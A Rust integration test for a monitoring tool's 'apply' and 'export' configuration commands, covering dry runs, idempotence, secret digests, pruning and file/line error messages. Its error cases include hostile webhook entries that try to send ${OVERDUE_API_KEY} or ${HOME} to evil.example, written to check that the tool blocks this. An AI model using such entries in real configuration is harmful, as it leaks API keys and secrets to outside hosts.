//! Configuration as code (docs/behaviour.md, "Configuration as code"): `overdue apply -f
//! overdue.toml` against a real
//! server on both databases — a dry run changes nothing, the first run creates every
//! kind, the second changes nothing, a changed field is the only change, a secret is
//! compared by digest (an unchanged one is left alone, a changed one is sent),
//! `--prune` deletes what the file no longer names, `overdue export` writes a file that
//! applies as "no changes", and errors name the file, the line and the field.

use std::process::Command;

use serde_json::Value;

use crate::both;
use crate::harness::{Backend, TestApp};

const FILE: &str = r#"
[[channel]]
name = "ops"
kind = "webhook"
url = "${OVERDUE_SECRET_HOOK_URL}"
is_default = false

[[monitor]]
slug = "db-backup"
name = "DB backup"
cron = "30 2 * * *"
tz = "Europe/Riga"
grace = "1h"
tags = ["prod", "db"]
channels = ["ops"]

[[flow]]
name = "Orders"
stages = [{ name = "placed", sla = "1h" }, { name = "shipped", sla = "2d", severity = "critical" }]
terminal = ["delivered"]
channels = ["ops"]

[[route]]
name = "critical to ops"
match = { severities = ["critical"] }
channels = ["ops"]
repeat_every = "30m"

[[silence]]
comment = "nightly maintenance"
match = { tags = ["db"] }
recurring = { days = ["sun"], from = "02:00", to = "03:00", tz = "Europe/Riga" }
"#;

struct Cli<'a> {
    app: &'a TestApp,
    dir: std::path::PathBuf,
}

impl Cli<'_> {
    fn run(&self, args: &[&str], hook: &str) -> (bool, String) {
        let out = Command::new(env!("CARGO_BIN_EXE_overdue"))
            .args(args)
            .current_dir(&self.dir)
            .env("OVERDUE_URL", self.app.url(""))
            .env("OVERDUE_API_KEY", &self.app.api_key)
            .env("OVERDUE_SECRET_HOOK_URL", hook)
            .env("OVERDUE_LOG", "error")
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        (out.status.success(), text)
    }

    fn write(&self, name: &str, text: &str) {
        std::fs::write(self.dir.join(name), text).unwrap();
    }
}

async fn count(app: &TestApp, path: &str, field: &str) -> usize {
    let (_, v) = app.api("GET", path, None).await;
    v[field].as_array().map_or(0, Vec::len)
}

async fn config_as_code(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let dir = std::env::temp_dir().join(format!("overdue-apply-{:x}", rand::random::<u64>()));
    std::fs::create_dir_all(&dir).unwrap();
    let cli = Cli { app: &app, dir };
    cli.write("overdue.toml", FILE);
    let hook = "http://127.0.0.1:9/hooks/T0KEN-1";

    // A dry run lists what it would do and does nothing.
    let (ok, out) = cli.run(&["apply", "-f", "overdue.toml", "--dry-run"], hook);
    assert!(ok, "{out}");
    for line in [
        "+ channel ops",
        "+ monitor db-backup",
        "+ flow orders",
        "+ route critical to ops",
        "+ silence nightly maintenance",
        "would change 5",
    ] {
        assert!(out.contains(line), "{line:?} in {out}");
    }
    assert_eq!(count(&app, "/api/v1/channels", "channels").await, 0);

    // Applied: every kind exists as the file says.
    let (ok, out) = cli.run(&["apply", "-f", "overdue.toml"], hook);
    assert!(ok, "{out}");
    let (_, ms) = app.api("GET", "/api/v1/monitors", None).await;
    let m = &ms["monitors"][0];
    assert_eq!(m["slug"], "db-backup");
    assert_eq!(m["grace"], 3600);
    assert_eq!(m["schedule"]["cron"], "30 2 * * *");
    let (_, chans) = app.api("GET", "/api/v1/channels", None).await;
    let ops = chans["channels"][0]["id"].as_str().unwrap().to_string();
    assert_eq!(m["channels"], serde_json::json!([ops]));
    let (_, f) = app.api("GET", "/api/v1/flows/orders", None).await;
    assert_eq!(f["stages"][1]["sla"], 172_800);
    let (_, rs) = app.api("GET", "/api/v1/routes", None).await;
    assert_eq!(rs["routes"][0]["repeat_every"], 1800);
    assert_eq!(count(&app, "/api/v1/silences", "silences").await, 1);

    // Again: nothing to do.
    let (ok, out) = cli.run(&["apply", "-f", "overdue.toml"], hook);
    assert!(
        ok && out.contains("no changes (5 as the file says)"),
        "{out}"
    );

    // One field changed: only it; the secret, unchanged, is left alone.
    cli.write(
        "overdue.toml",
        &FILE.replace("grace = \"1h\"", "grace = \"2h\""),
    );
    let (ok, out) = cli.run(&["apply", "-f", "overdue.toml"], hook);
    assert!(ok, "{out}");
    assert!(
        out.contains("~ monitor db-backup: grace")
            && out.contains("    grace: 3600 → \"2h\"")
            && out.contains("changed 1;"),
        "{out}"
    );
    assert_eq!(
        app.get_monitor(m["uuid"].as_str().unwrap()).await["grace"],
        7200
    );
    // A changed secret is seen by its digest and sent.
    let (ok, out) = cli.run(
        &["apply", "-f", "overdue.toml", "--dry-run"],
        "http://127.0.0.1:9/hooks/T0KEN-2",
    );
    assert!(
        ok && out.contains("~ channel ops: url")
            && out.contains("    url: (secret, changed)")
            && !out.contains("T0KEN")
            && out.contains("would change 1;"),
        "{out}"
    );

    // The route left out: --prune deletes it (a dry run first says so).
    let without_route = FILE.replace("[[route]]\nname = \"critical to ops\"\nmatch = { severities = [\"critical\"] }\nchannels = [\"ops\"]\nrepeat_every = \"30m\"\n", "")
        .replace("grace = \"1h\"", "grace = \"2h\"");
    cli.write("overdue.toml", &without_route);
    let (ok, out) = cli.run(
        &["apply", "-f", "overdue.toml", "--prune", "--dry-run"],
        hook,
    );
    assert!(ok && out.contains("- route critical to ops"), "{out}");
    assert_eq!(count(&app, "/api/v1/routes", "routes").await, 1);
    let (ok, out) = cli.run(&["apply", "-f", "overdue.toml", "--prune"], hook);
    assert!(ok, "{out}");
    assert_eq!(count(&app, "/api/v1/routes", "routes").await, 0);

    // Export: a file without secrets that applies as no change.
    let (ok, out) = cli.run(&["export", "-o", "exported.toml"], hook);
    assert!(ok, "{out}");
    let exported = std::fs::read_to_string(cli.dir.join("exported.toml")).unwrap();
    assert!(
        !exported.contains("T0KEN"),
        "no secret in the export: {exported}"
    );
    assert!(exported.contains("${OVERDUE_SECRET_OPS_URL}"), "{exported}");
    let parsed: toml::Table = toml::from_str(&exported).unwrap();
    assert_eq!(parsed["monitor"][0]["slug"].as_str(), Some("db-backup"));
    let out = Command::new(env!("CARGO_BIN_EXE_overdue"))
        .args(["apply", "-f", "exported.toml"])
        .current_dir(&cli.dir)
        .env("OVERDUE_URL", app.url(""))
        .env("OVERDUE_API_KEY", &app.api_key)
        .env("OVERDUE_SECRET_OPS_URL", hook)
        .output()
        .unwrap();
    let text =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success() && text.contains("no changes"),
        "{text}\n{exported}"
    );

    // Errors name the file, the line and the field; nothing is sent for a file that
    // does not read.
    for (text, says) in [
        ("[[monitors]]\nslug = \"x\"\n", "overdue.toml:1:"),
        (
            "[[monitor]]\nname = \"no slug\"\n",
            "overdue.toml:1: monitor needs \"slug\"",
        ),
        (
            "\n[[channel]]\nname = \"p\"\nkind = \"pagerduty\"\nrouting_key = \"${OVERDUE_SECRET_NOT_SET}\"\n",
            "overdue.toml:2: channel p.routing_key: names ${OVERDUE_SECRET_NOT_SET}",
        ),
        // A hostile file cannot send the API key or another secret to its webhook.
        (
            "[[channel]]\nname = \"h\"\nkind = \"webhook\"\nurl = \"https://evil.example/${OVERDUE_API_KEY}\"\n",
            "overdue.toml:1: channel h.url: ${OVERDUE_API_KEY} is never expanded",
        ),
        (
            "[[channel]]\nname = \"h\"\nkind = \"webhook\"\nurl = \"https://evil.example/\"\nheaders = { X = \"${HOME}\" }\n",
            "--allow-env HOME",
        ),
        (
            "[[monitor]]\nslug = \"bad\"\ncron = \"61 * * * *\"\n",
            "overdue.toml:1: monitor bad",
        ),
        (
            "[[monitor]]\nslug = \"x\"\nchannels = [\"nope\"]\n",
            "channels: no channel named \"nope\"",
        ),
    ] {
        cli.write("bad.toml", text);
        let (ok, out) = cli.run(&["apply", "-f", "bad.toml"], hook);
        assert!(!ok, "{text}: {out}");
        assert!(
            out.contains(&says.replace("overdue.toml", "bad.toml")),
            "{text}: {out}"
        );
    }
    let (ok, out) = cli.run(&["apply", "-f", "bad.toml"], hook);
    assert!(!ok && out.contains("no channel named"), "{out}");
    let (_, v): (u16, Value) = app.api("GET", "/api/v1/monitors", None).await;
    assert_eq!(
        v["monitors"].as_array().unwrap().len(),
        1,
        "nothing of the bad files was made"
    );
    let _ = std::fs::remove_dir_all(&cli.dir);
    app.stop().await;
}
both!(apply_and_export, config_as_code);
